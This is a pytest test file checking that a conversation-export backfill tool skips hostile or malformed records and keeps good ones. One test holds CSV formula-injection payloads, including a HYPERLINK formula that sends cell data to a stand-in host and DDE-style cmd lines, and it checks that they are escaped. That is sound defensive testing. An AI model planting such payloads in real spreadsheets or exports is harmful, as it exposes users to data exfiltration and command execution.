"""Hostile exports through a real backfill: one bad record never fails a run or hides the rest.

Each case writes an export, backfills it with the files source into SQLite and PostgreSQL, and
checks that the run completes, every good record is stored, every bad one is recorded as skipped
with its reason, and the counters equal the rows.
"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import itertools
import json
import lzma
import zipfile
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import services as service
from convosift.config import load_settings
from convosift.domain import RunStatus, Window
from convosift.pipeline.records import RunRecord

EVERYTHING = Window(since=0, until=2**40)
T0 = 1_750_000_000


def good(
    conversation_id: str, updated_at: int = T0 + 100, text: str = "The export button does nothing"
) -> dict[str, Any]:
    """A normalised conversation record."""
    return {"id": conversation_id, "created_at": T0, "updated_at": updated_at, "opener": text}


def deep(levels: int = 10_000) -> str:
    return (
        '{"id": "deep", "created_at": 1750000000, "updated_at": 1750000100, "x": '
        + "[" * levels
        + "]" * levels
        + "}"
    )


def write_jsonl(path: Path, lines: Iterable[str | dict[str, Any]]) -> Path:
    with path.open("w", encoding="utf-8") as out:
        for line in lines:
            out.write((line if isinstance(line, str) else json.dumps(line)) + "\n")
    return path


def backfill(path: Path, database_url: str, **settings: Any) -> RunRecord:
    config = load_settings(
        database_url=database_url, source="files", source_path=path, classifier="none", **settings
    )
    return service.start_run(config, window=EVERYTHING, batch_size=10)


def rows(database_url: str) -> tuple[dict[str, int], dict[str, str]]:
    """Stored conversations (id -> updated_at) and skipped records (id -> reason)."""
    engine = sa.create_engine(database_url)
    try:
        with engine.connect() as conn:
            stored = dict(conn.execute(sa.text("SELECT id, updated_at FROM conversations")).all())
            skipped = dict(conn.execute(sa.text("SELECT id, reason FROM skipped")).all())
    finally:
        engine.dispose()
    return stored, skipped


def assert_counters_equal_rows(record: RunRecord, database_url: str) -> tuple[dict[str, int], dict[str, str]]:
    assert record.status is RunStatus.COMPLETED, record.error
    stored, skipped = rows(database_url)
    assert record.counts.stored == len(stored)
    assert record.counts.skipped == len(skipped)
    assert record.counts.listed == record.counts.unchanged + record.counts.fetched
    assert record.counts.fetched == record.counts.skipped + record.counts.stored
    return stored, skipped


def test_a_huge_first_jsonl_line_is_skipped_and_every_other_line_is_read(
    tmp_path: Path, database_url: str
) -> None:
    huge = good("huge", text="x" * (9 << 20))
    path = write_jsonl(tmp_path / "export.jsonl", [huge, good("a"), good("b"), good("c")])
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert set(stored) == {"a", "b", "c"}
    assert skipped == {"line:1": "too_large"}


def test_a_huge_line_under_a_raised_cap_is_read(tmp_path: Path, sqlite_url: str) -> None:
    path = write_jsonl(tmp_path / "export.jsonl", [good("big", text="word " * 300_000), good("a")])
    stored, skipped = assert_counters_equal_rows(
        backfill(path, sqlite_url, max_record_bytes=4 << 20), sqlite_url
    )
    assert set(stored) == {"big", "a"} and not skipped


@pytest.mark.parametrize("where", ["first", "middle", "last"])
def test_a_deeply_nested_jsonl_line_is_skipped(tmp_path: Path, database_url: str, where: str) -> None:
    lines: list[str | dict[str, Any]] = [good("a"), good("b")]
    lines.insert({"first": 0, "middle": 1, "last": 2}[where], deep())
    path = write_jsonl(tmp_path / "export.jsonl", lines)
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert set(stored) == {"a", "b"}
    assert list(skipped.values()) == ["too_deep"]


@pytest.mark.parametrize("where", [0, 1, 2])
def test_a_deeply_nested_element_of_a_json_array_is_skipped(
    tmp_path: Path, database_url: str, where: int
) -> None:
    elements = [json.dumps(good("a")), json.dumps(good("b"))]
    elements.insert(where, deep())
    path = tmp_path / "export.json"
    path.write_text("[" + ",\n".join(elements) + "]")
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert set(stored) == {"a", "b"}
    assert skipped == {f"item:{where + 1}": "too_deep"}


@pytest.mark.parametrize("junk", ["x", "\x00", "12", "nul"])
def test_junk_stuck_to_an_element_of_a_json_array_costs_only_itself(
    tmp_path: Path, database_url: str, junk: str
) -> None:
    """``[A, x{B}, C]``: the junk once ended at B's first comma, B was lost and its fields were
    counted as eighteen more broken records."""
    a, b, c = (json.dumps(good(name)) for name in "abc")
    path = tmp_path / "export.json"
    path.write_text(f"[{a}, {junk}{b}, {c}]")
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert set(stored) == {"a", "b", "c"}
    assert list(skipped.values()) == ["malformed"]


def test_a_stray_bracket_after_an_element_of_a_json_array_loses_no_later_conversation(
    tmp_path: Path, sqlite_url: str
) -> None:
    a, b, c = (json.dumps(good(name)) for name in "abc")
    path = tmp_path / "export.json"
    path.write_text(f"[{a}[, {b}, {c}]")
    stored, skipped = assert_counters_equal_rows(backfill(path, sqlite_url), sqlite_url)
    assert set(stored) == {"a", "b", "c"}
    assert 1 <= len(skipped) <= 3


@pytest.mark.parametrize("value", [10**20, -(10**20), 0, 5_000_000_000])
@pytest.mark.parametrize("shape", ["normalised", "intercom"])
def test_timestamps_out_of_range_are_skipped(
    tmp_path: Path, database_url: str, value: int, shape: str
) -> None:
    if shape == "normalised":
        bad: dict[str, Any] = good("bad") | {"created_at": value}
    else:
        bad = {
            "type": "conversation",
            "id": "bad",
            "created_at": value,
            "updated_at": T0,
            "source": {"body": "hi"},
        }
    path = write_jsonl(tmp_path / "export.jsonl", [good("a"), bad, good("b")])
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert set(stored) == {"a", "b"}
    assert skipped == {"bad": "out_of_range"}


@pytest.mark.parametrize("order", ["newest first", "oldest first"])
@pytest.mark.parametrize("apart", [1, 25], ids=["same batch", "other batches"])
def test_a_duplicate_id_stores_its_newest_version_once(
    tmp_path: Path, database_url: str, order: str, apart: int
) -> None:
    versions = [good("dup", T0 + 500, "newest text"), good("dup", T0 + 200, "older text")]
    if order == "oldest first":
        versions.reverse()
    fillers = [good(f"f{n}") for n in range(apart - 1)]
    path = write_jsonl(tmp_path / "export.jsonl", [versions[0], *fillers, versions[1], good("z")])
    record = backfill(path, database_url)
    stored, skipped = assert_counters_equal_rows(record, database_url)
    assert stored["dup"] == T0 + 500 and not skipped
    assert record.counts.stored == apart + 1  # dup, the fillers and z: one row each
    engine = sa.create_engine(database_url)
    with engine.connect() as conn:
        text = conn.execute(sa.text("SELECT customer_text FROM conversations WHERE id = 'dup'")).scalar_one()
    engine.dispose()
    assert text == "newest text"


def test_a_newer_unreadable_duplicate_keeps_the_readable_row(tmp_path: Path, database_url: str) -> None:
    broken = {"id": "dup", "created_at": T0, "updated_at": T0 + 900, "opener": ["not", "text"]}
    path = write_jsonl(tmp_path / "export.jsonl", [good("dup"), *[good(f"f{n}") for n in range(12)], broken])
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert stored["dup"] == T0 + 100 and not skipped


def test_a_newer_unreadable_duplicate_far_from_the_readable_one_keeps_the_counters_exact(
    tmp_path: Path, sqlite_url: str
) -> None:
    """The readable version is long forgotten by the source when the unreadable one is listed, so
    the source answers with the unreadable one: before, the run counted it as skipped twice over
    (skipped -1)."""
    broken = {"id": "dup", "updated_at": T0 + 900, "opener": "no created_at"}
    others = [good(f"f{n:04d}") for n in range(2_100)]
    path = write_jsonl(tmp_path / "export.jsonl", [good("dup"), *others, broken])
    record = backfill(path, sqlite_url)
    stored, skipped = assert_counters_equal_rows(record, sqlite_url)
    assert stored["dup"] == T0 + 100 and not skipped
    assert (record.counts.listed, record.counts.stored, record.counts.skipped) == (2_101, 2_101, 0)


@pytest.mark.parametrize("suffix", ["jsonl", "json"])
def test_a_50_mb_record_is_skipped_without_being_held(tmp_path: Path, suffix: str) -> None:
    import asyncio
    import tracemalloc

    from convosift.sources.files import FileSource

    path = tmp_path / f"export.{suffix}"
    huge = json.dumps(good("huge", text="y" * (50 << 20)))
    records = [json.dumps(good("a")), huge, json.dumps(good("b"))]
    path.write_text("\n".join(records) + "\n" if suffix == "jsonl" else "[" + ",".join(records) + "]")
    del huge, records

    async def read_all() -> list[Any]:
        source = FileSource(path)
        results: list[Any] = []
        async for page in source.pages(EVERYTHING):
            results += await source.details([item.id for item in page.items])
        return results

    tracemalloc.start()
    try:
        results = asyncio.run(read_all())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [(r.id, getattr(r, "reason", None)) for r in results] == [
        ("a", None),
        ("line:2" if suffix == "jsonl" else "item:2", "too_large"),
        ("b", None),
    ]
    # JSONL reads at most the cap (5 MiB) at once; a JSON document's buffer grows by doubling while it looks
    # for the record's end, so up to a few times the cap. Never the 50 MB record.
    assert peak < (12 << 20 if suffix == "jsonl" else 25 << 20), peak


def test_skipped_records_can_be_listed(tmp_path: Path, sqlite_url: str) -> None:
    path = write_jsonl(tmp_path / "export.jsonl", ["{not json", good("a"), deep()])
    record = backfill(path, sqlite_url)
    assert record.status is RunStatus.COMPLETED
    config = load_settings(database_url=sqlite_url)
    listed = service.list_skipped(config)
    assert {(item["id"], item["reason"]) for item in listed} == {
        ("line:1", "malformed"),
        ("line:3", "too_deep"),
    }
    assert all(item["detail"].startswith("line ") for item in listed)


def test_two_broken_lines_first_do_not_hide_the_records_after_them(tmp_path: Path, sqlite_url: str) -> None:
    """Neither first line is whole, as in a pretty-printed document; the file is JSONL all the same."""
    path = write_jsonl(tmp_path / "export.jsonl", ['{"id": ', '{"id": "x" "y"}', good("a"), good("b")])
    record = backfill(path, sqlite_url)
    assert record.status is RunStatus.COMPLETED
    assert (record.counts.stored, record.counts.skipped) == (2, 2)
    listed = service.list_skipped(load_settings(database_url=sqlite_url))
    assert sorted(item["id"] for item in listed) == ["line:1", "line:2"]


@pytest.mark.parametrize("count", [1, 2])
def test_a_pretty_printed_list_object_is_still_one_document(
    tmp_path: Path, sqlite_url: str, count: int
) -> None:
    """With one conversation its line is a whole value, as a JSONL record's would be; the file is
    still one document (no spurious broken lines around it)."""
    records = [good("a"), good("b")][:count]
    path = tmp_path / "export.json"
    path.write_text(
        '{"type": "conversation.list", "conversations": [\n'
        + ",\n".join(json.dumps(r) for r in records)
        + "\n]}\n",
        encoding="utf-8",
    )
    record = backfill(path, sqlite_url)
    assert record.status is RunStatus.COMPLETED
    assert (record.counts.stored, record.counts.skipped) == (count, 0)


@pytest.mark.parametrize(
    ("layout", "stored", "broken"),
    [
        # Two pretty-printed conversations joined by a comma, as a hand edit leaves them.
        ("{a},\n{b}\n", ["a", "b"], range(1, 5)),
        # A list closed twice.
        ("[\n{a},\n{b}\n]\n]\n", ["a", "b"], range(1, 5)),
        # A missing comma between two elements: each is read on its own, nothing is broken.
        ("[\n{a}\n{b},\n{c}\n]\n", ["a", "b", "c"], range(0, 1)),
        ("[{a}]:,}{b}", ["a", "b"], range(1, 5)),
    ],
)
def test_a_stray_separator_between_documents_is_one_broken_record_not_an_endless_run(
    tmp_path: Path, sqlite_url: str, layout: str, stored: list[str], broken: range
) -> None:
    """A ``,`` ``]`` ``}`` or ``:`` where a value should start is stepped over: before, the reader
    reported the same broken record there for ever, filling the database."""
    text = layout
    for name in "abc":
        text = text.replace("{" + name + "}", json.dumps(good(name), indent=2))
    path = tmp_path / "export.json"
    path.write_text(text, encoding="utf-8")
    record = backfill(path, sqlite_url)
    got, skipped = assert_counters_equal_rows(record, sqlite_url)
    assert sorted(got) == stored
    assert len(skipped) in broken


@pytest.mark.parametrize(
    "shape", ["pretty list", "one-line list", "conversation.list", "pretty conversation.list", "jsonl"]
)
def test_a_utf8_byte_order_mark_is_not_part_of_the_export(
    tmp_path: Path, sqlite_url: str, shape: str
) -> None:
    """Windows tools start UTF-8 files with a byte-order mark: before, it broke every JSON document."""
    records = [good(name) for name in "abc"]
    text = {
        "pretty list": json.dumps(records, indent=2),
        "one-line list": json.dumps(records),
        "conversation.list": json.dumps({"type": "conversation.list", "conversations": records}),
        "pretty conversation.list": json.dumps(
            {"type": "conversation.list", "conversations": records}, indent=2
        ),
        "jsonl": "\n".join(json.dumps(r) for r in records),
    }[shape]
    path = tmp_path / "export.json"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode())
    record = backfill(path, sqlite_url)
    got, skipped = assert_counters_equal_rows(record, sqlite_url)
    assert (sorted(got), skipped) == (["a", "b", "c"], {})


def test_a_utf16_file_fails_with_a_clear_error(tmp_path: Path, sqlite_url: str) -> None:
    path = tmp_path / "export.jsonl"
    path.write_bytes("\n".join(json.dumps(good(name)) for name in "ab").encode("utf-16"))
    record = backfill(path, sqlite_url)
    assert record.status is RunStatus.FAILED
    assert record.error is not None and "UTF-16" in record.error and "iconv" in record.error
    assert rows(sqlite_url) == ({}, {})


@pytest.mark.parametrize(
    ("compress", "tool"),
    [(gzip.compress, "gzip -dc"), (bz2.compress, "bzip2 -dc"), (lzma.compress, "xz -dc"), (None, "unzip -p")],
)
def test_a_compressed_file_fails_with_a_clear_error(
    tmp_path: Path, sqlite_url: str, compress: Any, tool: str
) -> None:
    """An export left compressed used to be read as text: every record broken, nothing said why."""
    text = "\n".join(json.dumps(good(name)) for name in "ab").encode()
    path = tmp_path / "export.jsonl"
    if compress is None:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("export.jsonl", text)
    else:
        path.write_bytes(compress(text))
    record = backfill(path, sqlite_url)
    assert record.status is RunStatus.FAILED
    assert record.error is not None and tool in record.error and "plain UTF-8 text" in record.error
    assert "> converted.jsonl" in record.error  # a command that works whatever the file is called
    assert rows(sqlite_url) == ({}, {})


def test_a_csv_export_fails_with_a_clear_error(tmp_path: Path, sqlite_url: str) -> None:
    """Every line was skipped as malformed and the run completed, to skip them again next time."""
    path = tmp_path / "export.csv"
    path.write_text("id,created_at,text\nc-1,2026-05-01,My card was declined\n", encoding="utf-8")
    record = backfill(path, sqlite_url)
    assert record.status is RunStatus.FAILED
    assert record.error is not None and "does not look like JSON or JSONL" in record.error
    assert "docs/backfill.md" in record.error
    assert rows(sqlite_url) == ({}, {})


def test_carriage_returns_alone_as_line_breaks_lose_nothing(tmp_path: Path, sqlite_url: str) -> None:
    """JSON Lines saved with old Mac line breaks read as one line by lines: one broken record, the
    rest lost. They are read as a stream of JSON values instead, as is one pretty-printed object."""
    path = tmp_path / "export.jsonl"
    path.write_bytes("\r".join(json.dumps(good(name)) for name in "abc").encode())
    got, skipped = assert_counters_equal_rows(backfill(path, sqlite_url), sqlite_url)
    assert (sorted(got), skipped) == (["a", "b", "c"], {})
    for name, text in {
        "crlf.jsonl": "\r\n".join(json.dumps(good(name)) for name in "de"),
        "one.json": json.dumps(good("f"), indent=2).replace("\n", "\r"),
        "list.json": json.dumps([good(name) for name in "gh"], indent=2).replace("\n", "\r"),
    }.items():
        document = tmp_path / name
        document.write_bytes(text.encode())
        other = f"sqlite:///{tmp_path / (name + '.db')}"
        got, skipped = assert_counters_equal_rows(backfill(document, other), other)
        assert skipped == {} and len(got) == text.count('"id"'), name


def test_a_truncated_line_is_described_by_its_own_place(tmp_path: Path, sqlite_url: str) -> None:
    """The decoder's "line 2 column 1" (the line's own newline) read as a second place in the file."""
    path = tmp_path / "export.jsonl"
    path.write_text(json.dumps(good("a")) + "\n" + json.dumps(good("b"))[:40] + "\n")
    assert_counters_equal_rows(backfill(path, sqlite_url), sqlite_url)
    engine = sa.create_engine(sqlite_url)
    try:
        with engine.connect() as conn:
            detail = conn.execute(sa.text("SELECT detail FROM skipped")).scalar_one()
    finally:
        engine.dispose()
    assert detail.startswith("line 2: invalid JSON: ") and "of the record" in detail
    assert "column" not in detail, detail


def test_pages_much_smaller_than_batches_lose_nothing(tmp_path: Path, sqlite_url: str) -> None:
    """With pages of one record and batches of ten the listing runs well ahead of the fetches:
    before, conversations it had moved past were recorded as gone."""
    path = write_jsonl(tmp_path / "export.jsonl", [good(f"c{i:03d}") for i in range(300)])
    config = load_settings(
        database_url=sqlite_url, source="files", source_path=path, classifier="none", intercom_per_page=1
    )
    record = service.start_run(config, window=EVERYTHING, batch_size=10)
    stored, skipped = assert_counters_equal_rows(record, sqlite_url)
    assert (len(stored), skipped) == (300, {})


# --- property: any mix of good and hostile records -----------------------------------------------

CAP = 2048
_example_numbers = itertools.count()


@st.composite
def hostile_export(draw: st.DrawFn) -> tuple[str, list[tuple[str, str | None, dict[str, Any] | None]]]:
    """An export's format and its records: ``(text, kind, good record or None)`` each."""
    fmt = draw(st.sampled_from(["jsonl", "json"]))
    records: list[tuple[str, str | None, dict[str, Any] | None]] = []
    good_ids: list[str] = []
    used_times: set[int] = set()
    for number in range(draw(st.integers(min_value=1, max_value=30))):
        kind = draw(
            st.sampled_from(
                ["good", "good", "duplicate", "invalid", "deep", "large", "range", "not-object", "no-id"]
            )
        )
        if kind == "duplicate" and not good_ids:
            kind = "good"
        if kind in ("good", "duplicate"):
            conversation_id = draw(st.sampled_from(good_ids)) if kind == "duplicate" else f"g{number}"
            updated = draw(
                st.integers(min_value=T0, max_value=T0 + 10_000).filter(lambda t: t not in used_times)
            )
            used_times.add(updated)
            record = good(conversation_id, updated, f"text of {conversation_id} at {updated}")
            good_ids.append(conversation_id)
            records.append((json.dumps(record), None, record))
        elif kind == "invalid":
            text = draw(st.sampled_from(['{"id": "x" "y"}', "tru", "{'id': 1}", '{"id": 1,}', "[1, 2,]"]))
            if fmt == "jsonl":
                text = draw(st.sampled_from([text, '{"id": ', "not json at all", "\x00\x01"]))
            records.append((text, "malformed", None))
        elif kind == "deep":
            records.append((deep(draw(st.integers(min_value=70, max_value=900))), "too_deep", None))
        elif kind == "large":
            records.append((json.dumps(good(f"l{number}", text="z" * (CAP + 10))), "too_large", None))
        elif kind == "range":
            value = draw(st.sampled_from([10**20, -(10**20), -1, 0, 2**31 * 3, 10**12]))
            field = draw(st.sampled_from(["created_at", "updated_at"]))
            records.append((json.dumps(good(f"r{number}") | {field: value}), "out_of_range", None))
        elif kind == "not-object":
            records.append((draw(st.sampled_from(["42", '"text"', "null", "[]", "true"])), "malformed", None))
        else:
            records.append(
                (json.dumps({"created_at": T0, "updated_at": T0, "opener": "hi"}), "malformed", None)
            )
    if fmt == "jsonl" and records[0][0].startswith("["):
        # A first line that opens a list makes the file a JSON document: a file of one line "[]"
        # is an empty export, not a malformed record.
        records.insert(0, (json.dumps(good("first")), None, good("first")))
    elif fmt == "jsonl" and not any(text.strip().startswith(("{", "[")) for text, _, _ in records[:20]):
        # A file none of whose first lines starts an object or a list is refused whole (below, a
        # CSV): the mix is of records of a JSONL file.
        records.append((json.dumps(good("last")), None, good("last")))
        records.insert(0, records.pop())
    return fmt, records


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(export=hostile_export())
def test_any_mix_of_hostile_and_good_records(
    export: tuple[str, list[tuple[str, str | None, dict[str, Any] | None]]],
    database_url: str,
    tmp_path: Path,
) -> None:
    fmt, records = export
    path = tmp_path / f"export-{next(_example_numbers)}.{fmt}"
    texts = [text for text, _, _ in records]
    path.write_text("\n".join(texts) + "\n" if fmt == "jsonl" else "[" + ",\n".join(texts) + "]")
    config = load_settings(
        database_url=database_url,
        source="files",
        source_path=path,
        classifier="none",
        max_record_bytes=CAP,
        intercom_per_page=4,
    )
    with service.open_store(config).write() as conn:
        for table in ("classifications", "theme_matches", "conversations", "skipped", "runs"):
            conn.execute(sa.text(f"DELETE FROM {table}"))

    record = service.start_run(config, window=EVERYTHING, batch_size=10)

    stored, skipped = assert_counters_equal_rows(record, database_url)
    newest: dict[str, dict[str, Any]] = {}
    for _, _, version in records:
        if (
            version is not None
            and version["updated_at"] > newest.get(version["id"], {"updated_at": 0})["updated_at"]
        ):
            newest[version["id"]] = version
    assert stored == {cid: version["updated_at"] for cid, version in newest.items()}
    assert sorted(skipped.values()) == sorted(kind for _, kind, _ in records if kind is not None)
    with service.open_store(config).read() as conn:
        texts_stored = dict(conn.execute(sa.text("SELECT id, customer_text FROM conversations")).all())
        details = list(conn.execute(sa.text("SELECT detail FROM skipped")).scalars())
    assert texts_stored == {cid: version["opener"] for cid, version in newest.items()}
    assert all(detail for detail in details)


def test_the_cli_exports_skipped_records(
    tmp_path: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from convosift.cli import app

    path = write_jsonl(
        tmp_path / "export.jsonl", ["{not json", good("a"), deep(100), good("b", text="z" * 3000)]
    )
    backfill(path, sqlite_url, max_record_bytes=2048)
    monkeypatch.setenv("CONVOSIFT_DATABASE_URL", sqlite_url)
    runner = CliRunner()
    everything = runner.invoke(app, ["export", "skipped"])
    assert everything.exit_code == 0, everything.output
    lines = [json.loads(line) for line in everything.stdout.splitlines()]
    assert [(line["id"], line["reason"]) for line in lines] == [
        ("line:1", "malformed"),
        ("line:3", "too_deep"),
        ("line:4", "too_large"),
    ]
    out = tmp_path / "skipped" / "large.csv"
    only = runner.invoke(
        app, ["export", "skipped", "--reason", "too_large", "--format", "csv", "--out", str(out)]
    )
    assert only.exit_code == 0, only.output
    assert out.read_text().splitlines()[0] == "source,id,reason,detail,updated_at,run_id,recorded_at"
    assert len(out.read_text().splitlines()) == 2
    wrong = runner.invoke(app, ["export", "skipped", "--format", "xml"])
    assert (
        wrong.exit_code != 0 and "unknown export format" in wrong.output and "Traceback" not in wrong.output
    )
    # An unknown reason printed nothing and exited 0, as if nothing had been skipped.
    unknown = runner.invoke(app, ["export", "skipped", "--reason", "too-large", "--out", str(out)])
    assert unknown.exit_code != 0 and "unknown reason 'too-large'" in unknown.output
    assert "too_large" in unknown.output
    assert len(out.read_text().splitlines()) == 2  # the file there is left as it was


def test_csv_exports_show_text_that_looks_like_a_formula_and_never_run_it(
    tmp_path: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A conversation's text is anyone's to write: ``=HYPERLINK(...)`` in a CSV export ran as a
    formula in the spreadsheet that opened it. Such cells now start with an apostrophe; the
    JSONL export keeps the text as written."""
    from typer.testing import CliRunner

    from convosift.cli import app

    texts = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\tTab",
        "x;=cmd|' /C calc'!A0",  # a spreadsheet that splits on semicolons would start a cell at "="
    ]
    lines = [good(f"f{i}", text=text) | {"subject": text} for i, text in enumerate(texts)]
    path = write_jsonl(tmp_path / "export.jsonl", [*lines, good("plain", text="Export fails - again")])
    assert backfill(path, sqlite_url).status is RunStatus.COMPLETED
    monkeypatch.setenv("CONVOSIFT_DATABASE_URL", sqlite_url)
    runner = CliRunner()
    exported = runner.invoke(app, ["export", "conversations", "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    by_id = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
    for i, text in enumerate(texts[:-1]):
        assert by_id[f"f{i}"]["subject"] == "'" + text
    assert by_id["f5"]["subject"] == texts[-1]
    # Its row has every cell quoted, so no semicolon in it can end a cell; other rows stay plain.
    [line] = [line for line in exported.stdout.splitlines() if line.startswith('"f5"') or ',"f5",' in line]
    assert line.startswith('"') and line.endswith('"') and '","' in line
    assert not next(row for row in exported.stdout.splitlines() if "plain" in row).startswith('"')
    assert by_id["plain"]["subject"] == ""
    raw = runner.invoke(app, ["export", "conversations"])
    subjects = {json.loads(line)["id"]: json.loads(line).get("subject") for line in raw.stdout.splitlines()}
    assert subjects["f0"] == texts[0]


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity", "1e400", "-2.5e999"])
@pytest.mark.parametrize("suffix", ["jsonl", "json"])
def test_nan_and_infinity_are_not_json_and_are_skipped(
    tmp_path: Path, database_url: str, constant: str, suffix: str
) -> None:
    """Python reads them (1e400 as infinity), but PostgreSQL's JSON type refuses them: they failed
    the batch at save time, and every resume met the record again."""
    bad = json.dumps(good("bad")).replace('"opener"', f'"score": {constant}, "opener"')
    records = [json.dumps(good("a")), bad, json.dumps(good("b"))]
    path = tmp_path / f"export.{suffix}"
    path.write_text("\n".join(records) + "\n" if suffix == "jsonl" else "[" + ",".join(records) + "]")
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert set(stored) == {"a", "b"}
    assert list(skipped.values()) == ["malformed"]


def test_an_optional_field_written_another_way_costs_no_conversation(
    tmp_path: Path, database_url: str
) -> None:
    """A new user's first export: one tag as text, nulls, a message with no author, fractional seconds."""
    records = [
        good("tag") | {"tags": "delivery"},
        good("null") | {"opener": None, "subject": None, "url": None, "messages": None},
        good("author")
        | {"messages": [{"body": "Sorry, checking now."}, {"author_type": "user", "body": "Any news?"}]},
        good("fraction") | {"created_at": T0 + 0.5, "updated_at": T0 + 100.75},
        good("long") | {"id": "x" * 200},
    ]
    path = write_jsonl(tmp_path / "export.jsonl", records)
    stored, skipped = assert_counters_equal_rows(backfill(path, database_url), database_url)
    assert stored == {"tag": T0 + 100, "null": T0 + 100, "author": T0 + 100, "fraction": T0 + 100}
    assert skipped == {"line:5": "malformed"}
    engine = sa.create_engine(database_url)
    try:
        with engine.connect() as conn:
            found = conn.execute(sa.text("SELECT id, tags, customer_text FROM conversations")).all()
            [detail] = conn.execute(sa.text("SELECT detail FROM skipped")).scalars()
    finally:
        engine.dispose()
    read = {
        row.id: (json.loads(row.tags) if isinstance(row.tags, str) else row.tags, row.customer_text)
        for row in found
    }
    assert read["tag"][0] == ["delivery"]
    assert read["author"][1] == "The export button does nothing\nAny news?"
    assert detail.endswith("it is 200 characters long, at most 128 are allowed")
